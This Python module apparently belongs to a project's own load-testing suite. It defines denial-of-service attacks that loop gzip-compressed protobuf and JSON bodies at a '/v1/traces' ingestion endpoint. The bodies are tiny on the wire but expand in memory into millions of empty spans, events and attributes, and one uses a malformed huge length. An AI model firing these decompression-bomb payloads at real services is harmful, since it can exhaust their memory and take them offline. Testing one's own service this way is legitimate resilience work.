"""Attacks with a valid key: bodies that are small on the wire and large in memory, or nearly valid."""

import gzip
import http.client
from collections.abc import Callable
from contextlib import suppress

from scripts.attacks.target import Attack, Target
from scripts.load.own_studio import HOST

_PARTS = 5_000_000
_PROTOBUF, _JSON = "application/x-protobuf", "application/json"
_IDS = b"\x0a\x10" + bytes(range(1, 17)) + b"\x12\x08" + bytes(range(1, 9))


def _field(number: int, content: bytes) -> bytes:
    size, length = len(content), b""
    while size > 0x7F:
        length += bytes([size & 0x7F | 0x80])
        size >>= 7
    return bytes([number << 3 | 2]) + length + bytes([size]) + content


def _request(spans: bytes) -> bytes:
    return _field(1, _field(2, spans))


def _posts(make: Callable[[], bytes], media: str = _PROTOBUF) -> Attack:
    """Post the compressed body repeatedly. It is made once, in the process of the attack."""

    def attack(target: Target) -> None:
        body = gzip.compress(make(), 1)
        headers = {"Content-Type": media, "Content-Encoding": "gzip", "x-junjo-api-key": target.key}
        while target.goes_on():
            with suppress(OSError, http.client.HTTPException):
                connection = http.client.HTTPConnection(HOST, target.http_port, timeout=30)
                connection.request("POST", "/v1/traces", body, headers)
                connection.getresponse().read()
                connection.close()

    return attack


ATTACKS: dict[str, Attack] = {
    "empty resources": _posts(lambda: b"\x0a\x00" * _PARTS),
    "empty spans": _posts(lambda: _request(b"\x12\x00" * _PARTS)),
    "empty events": _posts(lambda: _request(_field(2, _IDS + b"\x5a\x00" * _PARTS))),
    "empty attributes": _posts(lambda: _request(_field(2, _IDS + b"\x4a\x00" * _PARTS))),
    "empty objects": _posts(lambda: b'{"resourceSpans":[' + b"{}," * _PARTS + b"{}]}", _JSON),
    "zeros": _posts(lambda: bytes(2 * _PARTS)),
    "huge lengths": _posts(lambda: _request(b"\x12" + b"\xff" * 9 + b"\x01" + b"\x12\x00" * 20_000)),
}
